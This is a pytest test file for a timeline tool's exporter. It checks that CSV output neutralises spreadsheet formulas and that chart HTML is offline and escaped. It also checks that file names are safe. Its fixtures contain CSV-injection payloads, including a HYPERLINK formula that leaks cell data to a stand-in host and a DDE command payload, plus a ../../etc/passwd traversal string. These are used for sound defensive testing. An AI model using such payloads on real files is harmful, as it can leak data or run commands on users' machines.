"""Exports: CSV that round-trips and cannot run formulas, offline chart HTML, safe file names."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pandas as pd
import plotly.graph_objects as go
import pytest

import timeline
from timeline import export, safe, schema
from timeline.actors import empty_registry

EVENTS_CSV = """id,date,end_date,title,description,actors,event_type,status,source_url,source_name,location,latitude,longitude,tags,theatre
war,2020-09-27,2020-11-10,Second Karabakh war,"Fighting resumes, with shelling.",Armenia;Azerbaijan,period,confirmed,https://example.org/war,Example,Front line,40.1,46.5,war;karabakh,South Caucasus
velayati,2020-10-06,,Velayati cites UN resolutions,"He said: ""seven districts"".",Velayati,statement,,https://example.org/v,Example,,,,,South Caucasus
shells,2020-10~,,=HYPERLINK("http://x.example/?q="&A1),-1+1,Iran;Azerbaijan,incident,claimed,,,Southtown,-12.5,-45.75,@SUM(A1),Sahel
plus,2020,,+cmd|' /C calc'!A0,-12.5,Iran,report,disputed,https://example.org/p,+44 desk,,,,,Sahel
"""


@pytest.fixture(scope="module")
def dataset() -> timeline.Dataset:
    return timeline.load(io.StringIO(EVENTS_CSV), name="events.csv", registry=empty_registry())


def exported_rows(events: pd.DataFrame) -> list[dict[str, str]]:
    text = export.events_csv(events).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://x.example")', '\'=HYPERLINK("http://x.example")'),
        ("+cmd", "'+cmd"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("-.5e3", "-.5e3"),
        ("-", "'-"),
        ("- a list item", "'- a list item"),
        ("a = b", "a = b"),
        ("", ""),
        ("Plain title", "Plain title"),
    ],
)
def test_formula_like_text_cells_are_neutralised(cell, written):
    assert safe.spreadsheet(pd.Series([cell], dtype="str")).tolist() == [written]


def test_every_text_column_is_neutralised_in_the_export(dataset):
    shells = next(row for row in exported_rows(dataset.events) if row["id"] == "shells")
    assert shells["title"] == '\'=HYPERLINK("http://x.example/?q="&A1)'
    assert shells["description"] == "'-1+1"
    assert shells["tags"] == "'@SUM(A1)"


def test_a_text_cell_holding_a_plain_number_is_kept(dataset):
    plus = next(row for row in exported_rows(dataset.events) if row["id"] == "plus")
    assert (plus["description"], plus["source_name"]) == ("-12.5", "'+44 desk")


def test_coordinates_are_written_as_plain_numbers(dataset):
    shells = next(row for row in exported_rows(dataset.events) if row["id"] == "shells")
    assert (shells["latitude"], shells["longitude"]) == ("-12.5", "-45.75")


def test_export_has_a_bom_and_exactly_the_contract_columns(dataset):
    data = export.events_csv(dataset.events)
    assert data.startswith(b"\xef\xbb\xbf")
    header = data[3:].split(b"\r\n", 1)[0].decode()
    assert header == ",".join(schema.COLUMNS)


def test_dates_are_written_as_written(dataset):
    rows = {row["id"]: row for row in exported_rows(dataset.events)}
    assert (rows["war"]["date"], rows["war"]["end_date"]) == ("2020-09-27", "2020-11-10")
    assert rows["shells"]["date"] == "2020-10~"
    assert rows["plus"]["date"] == "2020"


def test_export_loads_back_to_the_same_events(dataset):
    events = dataset.events
    again = timeline.load(
        io.BytesIO(export.events_csv(events)), name="export.csv", registry=empty_registry()
    )
    assert again.report.errors.empty
    columns = [schema.ID, schema.DATE, schema.END_DATE, schema.START, schema.END, schema.ACTORS]
    pd.testing.assert_frame_equal(again.events[columns], events[columns])
    clean = ~events[schema.ID].isin(["shells", "plus"])
    assert again.events[schema.TITLE][clean].tolist() == events[schema.TITLE][clean].tolist()
    assert again.events[schema.LATITUDE].equals(events[schema.LATITUDE])


def test_a_neutralised_title_loads_back_with_its_quote(dataset):
    again = timeline.load(
        io.BytesIO(export.events_csv(dataset.events)), name="x.csv", registry=empty_registry()
    )
    titles = dict(zip(again.events[schema.ID], again.events[schema.TITLE], strict=True))
    assert titles["plus"] == "'+cmd|' /C calc'!A0"


def test_events_in_view_are_exported_in_their_order(dataset):
    view = dataset.events.iloc[[2, 0]]
    assert [row["id"] for row in exported_rows(view)] == view[schema.ID].tolist()


def test_an_empty_view_exports_the_header_only(dataset):
    assert exported_rows(dataset.events.iloc[0:0]) == []


@pytest.fixture(scope="module")
def page() -> str:
    figure = go.Figure(
        go.Bar(x=["a"], y=[1]), layout={"title": {"text": "<b>Events</b> per month"}}
    )
    return export.chart_html(figure).decode("utf-8")


def test_chart_html_embeds_plotly_js_and_loads_no_script_from_a_cdn(page):
    assert "plotly.js v" in page  # the bundle's banner
    assert not re.search(r"<script[^>]*\bsrc=", page)
    assert 'src="https://cdn' not in page


def test_chart_html_is_a_full_page_with_the_figure_title(page):
    assert page.startswith("<!doctype html>") or page.lower().startswith("<html")
    assert "<title>Events per month</title>" in page


def test_chart_html_title_can_be_given_and_is_escaped():
    page = export.chart_html(go.Figure(), title="Iran & <Azerbaijan>").decode()
    assert "<title>Iran &amp; &lt;Azerbaijan&gt;</title>" in page


def test_chart_html_of_an_untitled_figure_has_a_default_title():
    assert "<title>Timeline chart</title>" in export.chart_html(go.Figure()).decode()


DAY = dt.date(2026, 11, 25)


@pytest.mark.parametrize(
    ("description", "stem"),
    [
        ("Iran, statement", "timeline-2026-11-25-iran-statement"),
        ("", "timeline-2026-11-25"),
        ("../../etc/passwd", "timeline-2026-11-25-etc-passwd"),
        ("C:\\Users\\x", "timeline-2026-11-25-c-users-x"),
        ("Türkiye – Azərbaycan", "timeline-2026-11-25-turkiye-azrbaycan"),
        ("ایران", "timeline-2026-11-25"),
        ("  Sahel juntas; 2024-07  ", "timeline-2026-11-25-sahel-juntas-2024-07"),
    ],
)
def test_file_stem_is_a_safe_ascii_name(description, stem):
    assert export.file_stem(description, on=DAY) == stem


def test_file_stem_is_bounded_and_cut_between_words():
    stem = export.file_stem("Armenia Azerbaijan Russia " * 10, on=DAY)
    assert len(stem) <= 80
    assert stem.endswith(("armenia", "azerbaijan", "russia"))


def test_file_stem_cuts_a_single_long_word():
    stem = export.file_stem("x" * 200, on=DAY)
    assert len(stem) == 80
    assert re.fullmatch(r"timeline-2026-11-25-x+", stem)


def test_file_stem_defaults_to_today():
    assert export.file_stem("x") == f"timeline-{dt.date.today():%Y-%m-%d}-x"


def test_a_problem_report_is_written_formula_safe_with_numbers_kept() -> None:
    problems = pd.DataFrame(
        {"row": [2, 3], "column": ["title", "date"], "value": ["=1+1", "2020-13"]}
    )
    written = export.table_csv(problems).decode("utf-8-sig").splitlines()
    assert written[0] == "row,column,value"
    assert written[1] == '2,"title","\'=1+1"'
